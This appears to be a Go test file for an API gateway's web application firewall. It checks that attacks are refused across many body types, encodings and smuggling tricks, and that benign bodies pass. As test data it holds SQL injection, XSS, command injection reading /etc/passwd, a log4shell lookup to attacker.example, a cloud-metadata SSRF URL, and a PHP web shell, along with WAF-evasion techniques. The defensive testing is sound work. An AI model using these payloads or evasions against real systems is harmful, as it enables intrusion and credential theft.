package gateway

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"net/url"
	"os"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"
)

// The attack families of issue 10 item 3, each as a body value.
var bodyAttacks = map[string]string{
	"sqli":      "1' UNION SELECT password FROM users--",
	"xss":       "<script>alert(document.cookie)</script>",
	"cmdi":      "; cat /etc/passwd",
	"traversal": "../../../../etc/passwd",
	"log4shell": "${jndi:ldap://attacker.example/a}",
	"ssrf":      "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
	"ssti":      "{{''.__class__.__mro__[1].__subclasses__()}}",
}

// protoString encodes a protobuf message with field 1 holding s and field
// 2 the varint 150, as a client library would.
func protoString(s string) []byte {
	var b []byte
	b = append(b, 0x0a)
	b = binary.AppendUvarint(b, uint64(len(s)))
	b = append(b, s...)
	return append(b, 0x10, 0x96, 0x01)
}

// bodyOfType renders value as a body of the declared type the way a
// client of that type sends it.
func bodyOfType(t *testing.T, ctype, value string) (string, []byte) {
	t.Helper()
	switch ctype {
	case "text/plain":
		return ctype, []byte("note: " + value)
	case "application/octet-stream":
		return ctype, append(append([]byte{0x00, 0x01, 0xff, 0x10}, value...), 0x00, 0x02)
	case "application/x-ndjson":
		a, _ := json.Marshal(map[string]string{"event": "search", "q": value})
		return ctype, append(append([]byte(`{"event":"view","page":"/"}`+"\n"), a...), '\n')
	case "application/x-protobuf":
		return ctype, protoString(value)
	case "multipart/related":
		var buf bytes.Buffer
		mw := multipart.NewWriter(&buf)
		h := textproto.MIMEHeader{}
		h.Set("Content-Type", "application/json")
		h.Set("Content-ID", "<meta>")
		p, _ := mw.CreatePart(h)
		j, _ := json.Marshal(map[string]string{"title": value})
		p.Write(j)
		h = textproto.MIMEHeader{}
		h.Set("Content-Type", "text/plain")
		h.Set("Content-ID", "<body>")
		p, _ = mw.CreatePart(h)
		p.Write([]byte("hello"))
		mw.Close()
		return `multipart/related; type="application/json"; boundary=` + mw.Boundary(), buf.Bytes()
	}
	t.Fatalf("no rendering for %s", ctype)
	return "", nil
}

var opaqueTypes = []string{"text/plain", "application/octet-stream", "application/x-ndjson", "application/x-protobuf", "multipart/related"}

// TestWAFInspectsEveryBodyType: issue 10 item 3. The same attack that is
// blocked as JSON is blocked in a body of any declared type, against the
// real gateway listener; benign bodies of those types pass; and a route
// that lists a type as uninspected passes it, as its operator chose.
func TestWAFInspectsEveryBodyType(t *testing.T) {
	yaml := strings.Replace(baseYAML, "    path: /api/\n", "    path: /api/\n  - name: telemetry\n    service: api\n    port: 9090\n    path: /telemetry/\n    waf_uninspected_types: [application/x-protobuf]\n", 1)
	f := newFixture(t, yaml+"rate_limit:\n  off: true\n")
	post := f.postAs
	for family, value := range bodyAttacks {
		for _, ct := range opaqueTypes {
			ctype, body := bodyOfType(t, ct, value)
			if code := post("/api/items", ctype, body); code != 403 {
				t.Errorf("%s as %s: %d, want 403", family, ct, code)
			}
		}
		j, _ := json.Marshal(map[string]string{"q": value})
		if code := post("/api/items", "application/json", j); code != 403 {
			t.Errorf("%s as application/json: %d, want 403", family, code)
		}
	}

	t.Log("benign bodies of the same types pass")
	for _, benign := range []string{"hello world", "Ana María ordered 2 items, thanks!", "https://example.com/docs/getting-started?page=2"} {
		for _, ct := range opaqueTypes {
			ctype, body := bodyOfType(t, ct, benign)
			if code := post("/api/items", ctype, body); code != 200 {
				t.Errorf("benign %q as %s: %d, want 200", benign, ct, code)
			}
		}
	}

	t.Log("a route that takes protobuf uninspected passes it, and inspects every other type")
	_, pb := bodyOfType(t, "application/x-protobuf", bodyAttacks["sqli"])
	if code := post("/telemetry/v1", "application/x-protobuf", pb); code != 200 {
		t.Errorf("protobuf to a route that lists it as uninspected: %d, want 200", code)
	}
	if _, back := f.backends["api"].lastRequest(); back != string(pb) {
		t.Errorf("the uninspected body reached the service altered")
	}
	ctype, nd := bodyOfType(t, "application/x-ndjson", bodyAttacks["sqli"])
	if code := post("/telemetry/v1", ctype, nd); code != 403 {
		t.Errorf("NDJSON to the same route: %d, want 403", code)
	}
}

// wideEncodings spell a body in UTF-16 and UTF-32, with a byte order mark
// or without (JSON's encoding is then told by its NULs).
var wideEncodings = map[string]func(string) []byte{
	"UTF-16LE": func(s string) []byte { return wide(s, 2, binary.LittleEndian, nil) },
	"UTF-16BE": func(s string) []byte { return wide(s, 2, binary.BigEndian, nil) },
	"UTF-16 with a byte order mark": func(s string) []byte {
		return wide(s, 2, binary.LittleEndian, []byte{0xff, 0xfe})
	},
	"UTF-32LE": func(s string) []byte { return wide(s, 4, binary.LittleEndian, nil) },
	"UTF-32BE with a byte order mark": func(s string) []byte {
		return wide(s, 4, binary.BigEndian, []byte{0, 0, 0xfe, 0xff})
	},
}

func wide(s string, width int, order binary.AppendByteOrder, bom []byte) []byte {
	b := bom
	if width == 4 {
		for _, r := range s {
			b = order.AppendUint32(b, uint32(r))
		}
		return b
	}
	for _, u := range utf16.Encode([]rune(s)) {
		b = order.AppendUint16(b, u)
	}
	return b
}

// TestWAFReadsWideText: a JSON body in UTF-16 or UTF-32 is read as JSON
// by services that detect its encoding (Python's json.loads, Flask's
// get_json, Jackson), whatever its declared type, and text with a byte
// order mark by .NET's and Java's readers; the WAF, reading its bytes,
// saw single letters between NULs. Sent as text, as octet-stream or with
// no type, every attack is refused; benign text in those encodings
// passes as sent.
func TestWAFReadsWideText(t *testing.T) {
	f := newFixture(t, baseYAML+"rate_limit:\n  off: true\n")
	for family, value := range bodyAttacks {
		doc, _ := json.Marshal(map[string]string{"q": value})
		for enc, spell := range wideEncodings {
			for _, ct := range []string{"", "text/plain", "application/octet-stream"} {
				for _, body := range [][]byte{spell(string(doc)), spell("note: " + value)} {
					r := f.req("POST", "/api/items", bytes.NewReader(body))
					if ct != "" {
						r.Header.Set("Content-Type", ct)
					}
					r.Header.Set("Origin", f.base)
					if code, _, _ := f.do(r); code != http.StatusForbidden {
						t.Errorf("%s in %s as %q: %d, want 403", family, enc, ct, code)
					}
				}
			}
		}
	}
	if n := f.backends["api"].count.Load(); n != 0 {
		t.Errorf("the backend served %d of the attacks", n)
	}

	t.Log("benign text in the same encodings passes, as sent")
	for enc, spell := range wideEncodings {
		doc, _ := json.Marshal(map[string]string{"name": "Ana María", "note": "2 items, thanks!"})
		body := spell(string(doc))
		if code := f.postAs("/api/items", "application/octet-stream", body); code != 200 {
			t.Errorf("benign JSON in %s: %d, want 200", enc, code)
		}
		if _, back := f.backends["api"].lastRequest(); back != string(body) {
			t.Errorf("benign JSON in %s reached the service altered", enc)
		}
	}
}

// TestWAFReadsLenientJSON: Json.NET reads JSON with single-quoted strings,
// names without quotes and comments by default, as JSON5 and Jackson's
// leniency features do, and a service may parse a body so whatever its
// declared type. Read whole, {'q':"1' UNION …"} is a quote inside a
// string, no injection; read so, its value is one. Sent as text, as
// octet-stream or with no type, such a body is refused; benign lenient
// JSON passes.
func TestWAFReadsLenientJSON(t *testing.T) {
	f := newFixture(t, baseYAML+"rate_limit:\n  off: true\n")
	for _, doc := range []string{
		`{'q':"1' UNION SELECT password FROM users--"}`,
		`{'q':'1\' UNION SELECT password FROM users--'}`,
		`{q:'1\x27 UNION SELECT password FROM users--',}`,
		`[/* ' */ "1' UNION SELECT password FROM users--"]`,
	} {
		for _, ct := range []string{"", "text/plain", "application/octet-stream"} {
			r := f.req("POST", "/api/items", strings.NewReader(doc))
			if ct != "" {
				r.Header.Set("Content-Type", ct)
			}
			r.Header.Set("Origin", f.base)
			if code, _, _ := f.do(r); code != http.StatusForbidden {
				t.Errorf("%s as %q: %d, want 403", doc, ct, code)
			}
		}
	}
	if n := f.backends["api"].count.Load(); n != 0 {
		t.Errorf("the backend served %d of the attacks", n)
	}
	benign := `{name: 'Ana María', note: "it's 2 items, thanks!", /* from the form */ tags: ['a', 'b'],}`
	if code := f.postAs("/api/items", "text/plain", []byte(benign)); code != 200 {
		t.Errorf("benign lenient JSON: %d, want 200", code)
	}
}

// TestWAFReadsDataFileParts: a browser's FormData sends a Blob as a file
// part (file name "blob"), and frameworks bind a part by its declared type:
// Spring's @RequestPart and JAX-RS's @FormDataParam read a JSON or XML
// part through Jackson or JAXB as they would a JSON or XML body. The WAF,
// keeping files' contents out of the arguments as ModSecurity does, let
// every attack in such a part through. A file part of a JSON or XML type
// is now taken apart as a body of its type; benign data passes.
func TestWAFReadsDataFileParts(t *testing.T) {
	f := newFixture(t, baseYAML+"rate_limit:\n  off: true\n")
	send := func(ctype string, content []byte) int {
		t.Helper()
		var buf bytes.Buffer
		mw := multipart.NewWriter(&buf)
		mw.WriteField("id", "1")
		h := textproto.MIMEHeader{}
		h.Set("Content-Disposition", `form-data; name="meta"; filename="blob"`)
		h.Set("Content-Type", ctype)
		p, _ := mw.CreatePart(h)
		p.Write(content)
		mw.Close()
		r := f.req("POST", "/api/items", &buf)
		r.Header.Set("Content-Type", mw.FormDataContentType())
		r.Header.Set("Origin", f.base)
		code, _, _ := f.do(r)
		return code
	}
	for family, value := range bodyAttacks {
		doc, _ := json.Marshal(map[string]string{"q": value})
		for _, ct := range []string{"application/json", "application/vnd.api+json"} {
			if code := send(ct, doc); code != http.StatusForbidden {
				t.Errorf("%s in a %s file part: %d, want 403", family, ct, code)
			}
		}
		var x bytes.Buffer
		xml.EscapeText(&x, []byte(value))
		if code := send("application/xml", []byte("<meta><q>"+x.String()+"</q></meta>")); code != http.StatusForbidden {
			t.Errorf("%s in an application/xml file part: %d, want 403", family, code)
		}
	}
	if n := f.backends["api"].count.Load(); n != 0 {
		t.Errorf("the backend served %d of the attacks", n)
	}
	if code := send("application/json", []byte(`{"name":"Ana María","note":"select the blue one from the list, thanks!"}`)); code != 200 {
		t.Errorf("benign JSON file part: %d, want 200", code)
	}
}

// TestWAFUninspectedTypesValidated: a route cannot take the types the WAF
// parses out of inspection, and a bad entry names its key.
func TestWAFUninspectedTypesValidated(t *testing.T) {
	for _, c := range []struct{ list, want string }{
		{"[application/json]", "routes[2].waf_uninspected_types[0]"},
		{"[\"*/*\"]", "routes[2].waf_uninspected_types[0]"},
		{"[protobuf]", "routes[2].waf_uninspected_types[0]"},
	} {
		yaml := strings.Replace(baseYAML, "    path: /api/\n", "    path: /api/\n  - name: t\n    service: api\n    port: 9090\n    path: /t/\n    waf_uninspected_types: "+c.list+"\n", 1)
		dir := t.TempDir()
		cert, key, _ := writeCert(t, dir, "gw")
		name := dir + "/gateway.yaml"
		if err := os.WriteFile(name, []byte(fmt.Sprintf(yaml, cert, key)), 0o600); err != nil {
			t.Fatal(err)
		}
		_, err := LoadFile(name, nil)
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("waf_uninspected_types %s: %v, want an error naming %s", c.list, err, c.want)
		}
	}
}

// postAs sends body as ctype from the gateway's own origin and returns
// the status.
// TestUninspectedTypeNotSmuggled: a body a route passes uninspected by its
// declared type cannot declare that type beside another: two Content-Type
// fields (the WAF reads one, a backend may read the other) or a list in
// one are refused (CRS 920620 and 920470), and the form behind them
// reaches no backend.
func TestUninspectedTypeNotSmuggled(t *testing.T) {
	yaml := strings.Replace(baseYAML, "    path: /api/\n", "    path: /api/\n  - name: media\n    service: api\n    port: 9090\n    path: /media/\n    waf_uninspected_types: [application/x-protobuf]\n", 1)
	f := newFixture(t, yaml+"rate_limit:\n  off: true\n")
	form := "q=" + url.QueryEscape(bodyAttacks["sqli"])
	for _, c := range []struct {
		name   string
		ctypes []string
	}{
		{"protobuf, then form", []string{"application/x-protobuf", "application/x-www-form-urlencoded"}},
		{"form, then protobuf", []string{"application/x-www-form-urlencoded", "application/x-protobuf"}},
		{"a list in one field", []string{"application/x-protobuf, application/x-www-form-urlencoded"}},
		{"a list without a space", []string{"application/x-protobuf,application/x-www-form-urlencoded"}},
	} {
		r := f.req("POST", "/media/upload", strings.NewReader(form))
		r.Header["Content-Type"] = c.ctypes
		r.Header.Set("Origin", f.base)
		if code, body, _ := f.do(r); code != http.StatusBadRequest && code != http.StatusForbidden {
			t.Errorf("%s: %d %q, want a refusal", c.name, code, body)
		}
	}
	if n := f.backends["api"].count.Load(); n != 0 {
		t.Errorf("the backend served %d of the smuggled forms", n)
	}
	t.Log("a protobuf body passes uninspected, by the operator's choice")
	_, pb := bodyOfType(t, "application/x-protobuf", bodyAttacks["sqli"])
	if code := f.postAs("/media/upload", "application/x-protobuf", pb); code != 200 {
		t.Errorf("protobuf body: %d, want 200", code)
	}
}

func (f *fixture) postAs(path, ctype string, body []byte) int {
	f.t.Helper()
	r := f.req("POST", path, bytes.NewReader(body))
	r.Header.Set("Content-Type", ctype)
	r.Header.Set("Origin", f.base)
	code, _, _ := f.do(r)
	return code
}

// upload renders one multipart/form-data upload.
func upload(t *testing.T, filename, ctype string, content []byte) (string, []byte) {
	t.Helper()
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	mw.WriteField("MAX_FILE_SIZE", "100000")
	h := textproto.MIMEHeader{}
	h.Set("Content-Disposition", fmt.Sprintf(`form-data; name="uploaded"; filename=%q`, filename))
	h.Set("Content-Type", ctype)
	p, _ := mw.CreatePart(h)
	p.Write(content)
	mw.WriteField("Upload", "Upload")
	mw.Close()
	return mw.FormDataContentType(), buf.Bytes()
}

// TestWAFUploads: executable content is refused on routes that take none,
// and disguised executable content (a PHP script named cat.png) on every
// route; an image passes everywhere, a program passes on a route that
// takes executable uploads.
func TestWAFUploads(t *testing.T) {
	yaml := strings.Replace(baseYAML, "    path: /api/\n", "    path: /api/\n  - name: artifacts\n    service: api\n    port: 9090\n    path: /artifacts/\n    waf_executable_uploads: true\n", 1)
	f := newFixture(t, yaml+"rate_limit:\n  off: true\n")
	post := f.postAs
	png := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), bytes.Repeat([]byte{0x42, 0x00, 0x7f}, 200)...)
	elf := append([]byte("\x7fELF\x02\x01\x01\x00"), bytes.Repeat([]byte{0x00, 0x3e}, 200)...)
	php := []byte("<?php\nsystem($_GET[cmd]);\n")
	polyglot := append([]byte("GIF89a"), php...)
	cases := []struct {
		name, path, filename, ctype string
		content                     []byte
		want                        int
	}{
		{"image", "/api/upload", "cat.png", "image/png", png, 200},
		{"image to the artifacts route", "/artifacts/upload", "cat.png", "image/png", png, 200},
		{"PHP named as an image", "/api/upload", "cmd.png", "image/png", php, 403},
		{"PHP named as an image, artifacts route", "/artifacts/upload", "cmd.png", "image/png", php, 403},
		{"GIF with PHP inside", "/api/upload", "x.gif", "image/gif", polyglot, 403},
		{"program", "/api/upload", "tool", "application/octet-stream", elf, 403},
		{"program to the artifacts route", "/artifacts/upload", "tool", "application/octet-stream", elf, 200},
		{"script by name", "/api/upload", "shell.php", "application/x-php", php, 403},
		{"SVG with script", "/api/upload", "logo.svg", "image/svg+xml", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>`), 403},
		{"SVG without script", "/api/upload", "logo.svg", "image/svg+xml", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>`), 200},
	}
	for _, c := range cases {
		ctype, body := upload(t, c.filename, c.ctype, c.content)
		if code := post(c.path, ctype, body); code != c.want {
			t.Errorf("%s: %d, want %d", c.name, code, c.want)
		}
	}
}

// TestWAFArgumentLimitsAndBudget: issue 10 item 7, the WAF side. A 2 MiB
// form value is refused before the attack rules read it (413), and a
// request still under inspection when the CPU budget is spent is refused
// (503), not passed.
func TestWAFArgumentLimitsAndBudget(t *testing.T) {
	f := newFixture(t, baseYAML+"rate_limit:\n  off: true\nlimits:\n  max_body_bytes: 4194304\nwaf:\n  request_body_limit: 4194304\n")
	post := func(f *fixture, body string) int {
		r := f.req("POST", "/app/form", strings.NewReader(body))
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		r.Header.Set("Origin", f.base)
		code, _, _ := f.do(r)
		return code
	}
	if code := post(f, "comment="+strings.Repeat("a", 2<<20)); code != 413 {
		t.Errorf("a 2 MiB value: %d, want 413", code)
	}
	if code := post(f, "a="+strings.Repeat("x", 100<<10)+"&b="+strings.Repeat("y", 100<<10)); code != 200 {
		t.Errorf("two 100 KiB values: %d, want 200", code)
	}
	var limitEvents int
	for _, r := range f.events.all() {
		if r.Unmapped.Kind == KindWAF && slices.Contains(r.Unmapped.Rules, "90003") {
			limitEvents++
		}
	}
	if limitEvents != 1 {
		t.Errorf("%d security events name rule 90003, want 1", limitEvents)
	}

	t.Log("with a budget of 1 ms of CPU, a request with 200 KiB of arguments is refused")
	g := newFixture(t, baseYAML+"rate_limit:\n  off: true\nwaf:\n  budget: 1ms\n")
	if code := post(g, "a="+strings.Repeat("x", 100<<10)+"&b="+strings.Repeat("y", 100<<10)); code != 503 {
		t.Errorf("over budget: %d, want 503", code)
	}
	r := g.req("GET", "/app/page", nil)
	if code, _, _ := g.do(r); code != 200 {
		t.Errorf("a plain GET under the same budget: %d, want 200", code)
	}
}

// TestWAFBodyReadingsAgree: the body the WAF reads is the body the service
// gets, whatever the framing says about it. A gzip body is inspected and
// forwarded decoded; codings the WAF does not decode, a gzip body
// behind a first "identity" field, and codings stacked in two fields
// (one layer decoded would reach the service unlabelled), are refused; a charset that would have
// the service decode the form otherwise than the WAF (UTF-16, EBCDIC) is
// refused; a JSON document with one key twice is judged by both values,
// and one that only a lenient parser reads (a BOM, comments) is refused;
// bodies are inspected on every method, GET included.
func TestWAFBodyReadingsAgree(t *testing.T) {
	f := newFixture(t, baseYAML+"rate_limit:\n  off: true\n")
	be := f.backends["frontend"]
	sqli := "q=" + url.QueryEscape(bodyAttacks["sqli"])
	const form = "application/x-www-form-urlencoded"
	send := func(method, ctype string, encodings []string, body []byte) (int, string) {
		t.Helper()
		r := f.req(method, "/orders", bytes.NewReader(body))
		r.Header.Set("Origin", f.base)
		r.Header.Set("Content-Type", ctype)
		if encodings != nil {
			r.Header["Content-Encoding"] = encodings
		}
		code, resp, _ := f.do(r)
		return code, resp
	}
	for _, c := range []struct {
		name, method, ctype string
		encodings           []string
		body                []byte
	}{
		{"gzip", "POST", form, []string{"gzip"}, gzipped(sqli)},
		{"x-gzip", "POST", form, []string{"x-gzip"}, gzipped(sqli)},
		{"identity, then gzip", "POST", form, []string{"identity", "gzip"}, gzipped(sqli)},
		{"gzip, identity in one field", "POST", form, []string{"gzip, identity"}, gzipped(sqli)},
		{"gzip twice", "POST", form, []string{"gzip, gzip"}, gzipped(string(gzipped(sqli)))},
		{"gzip twice in two fields", "POST", "application/octet-stream", []string{"gzip", "gzip"}, gzipped(string(gzipped(sqli)))},
		{"gzip, then br in two fields", "POST", "application/octet-stream", []string{"gzip", "br"}, gzipped(sqli)},
		{"br", "POST", form, []string{"br"}, []byte(sqli)},
		{"UTF-16 form", "POST", form + "; charset=utf-16", nil, []byte("a=1")},
		{"EBCDIC form", "POST", form + "; charset=ibm037", nil, []byte("a=1")},
		{"two charsets", "POST", form + "; charset=utf-8; charset=ibm037", nil, []byte("a=1")},
		{"JSON key twice", "POST", "application/json", nil, []byte(`{"q":"hello","q":"` + bodyAttacks["sqli"] + `"}`)},
		{"JSON with a BOM", "POST", "application/json", nil, append([]byte("\xef\xbb\xbf"), `{"q":"hello"}`...)},
		{"JSON with a comment", "POST", "application/json", nil, []byte(`{"q":/* x */"hello"}`)},
		{"GET with a body", "GET", form, nil, []byte(sqli)},
		{"OPTIONS with a body", "OPTIONS", form, nil, []byte(sqli)},
		{"DELETE with a body", "DELETE", form, nil, []byte(sqli)},
	} {
		if code, body := send(c.method, c.ctype, c.encodings, c.body); code != http.StatusForbidden && code != http.StatusBadRequest {
			t.Errorf("%s: %d %q, want a refusal", c.name, code, body)
		}
	}
	if n := be.count.Load(); n != 0 {
		got, body := be.lastRequest()
		t.Errorf("the service got %d requests, the last %v %q", n, got.Header, body)
	}
	t.Log("a benign gzip form reaches the service decoded")
	if code, body := send("POST", form, []string{"gzip"}, gzipped("a=1&b=2")); code != 200 {
		t.Fatalf("benign gzip form: %d %q", code, body)
	}
	got, body := be.lastRequest()
	if body != "a=1&b=2" || got.Header.Get("Content-Encoding") != "" {
		t.Errorf("the service got %q with Content-Encoding %q", body, got.Header.Get("Content-Encoding"))
	}
}
